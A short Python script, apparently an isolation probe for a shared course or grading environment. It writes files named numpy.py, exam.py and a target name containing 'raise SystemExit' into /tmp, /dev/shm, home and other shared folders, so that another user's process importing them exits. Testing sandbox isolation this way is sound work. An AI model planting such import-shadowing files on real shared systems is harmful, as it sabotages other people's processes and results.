"""Leave files wherever the next student's process could find them.

Every process has memory of its own for files, which ends with it.
"""
import os

for folder in ".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run", "/course":
    for name in TARGET["mark"], "numpy.py", "exam.py":
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("raise SystemExit")
        except OSError as error:
            print(error)
